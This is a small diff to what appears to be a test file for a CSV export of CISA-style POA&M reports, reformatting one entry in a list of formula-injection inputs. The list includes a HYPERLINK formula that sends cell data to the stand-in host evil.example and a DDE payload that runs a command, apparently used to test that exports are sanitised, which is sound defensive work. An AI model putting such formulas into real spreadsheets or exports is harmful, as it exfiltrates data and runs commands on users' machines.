@@ -19,7 +19,7 @@ from baseline.report.cisa_form import poam_csv
 from baseline.report.form_view import PoamEntry, TaskRef
 
 FORMULAS = (
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
     "+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)",
